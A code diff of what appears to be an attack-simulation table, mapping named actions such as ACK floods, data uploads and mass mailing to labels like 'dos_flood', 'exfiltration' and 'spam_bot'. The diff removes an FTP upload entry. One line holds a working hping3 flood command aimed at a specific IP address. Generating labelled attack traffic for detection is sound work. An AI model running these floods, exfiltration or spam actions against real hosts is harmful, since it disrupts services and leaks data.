@@ -378,7 +378,6 @@ ATTACKS: dict[str, tuple[Act, str]] = {
     "flood, ack": (lambda: run("hping3", "-A", "-p", "80", "-c", "6000", "-i", "u400", "45.78.1.1"), "dos_flood"),
     "flood, held open": (_hold_open, "dos_flood"),
     "upload, bare": (_send_away(9_999, 3_000_000), "exfiltration"),
-    "upload, ftp": (_send_away(21, 1_000_000), "exfiltration"),
     "upload, web": (_send_away_by_web, "exfiltration"),
     "upload, tls": (_send_away_by_tls, "exfiltration"),
     "mail to many": (_mail_many, "spam_bot"),
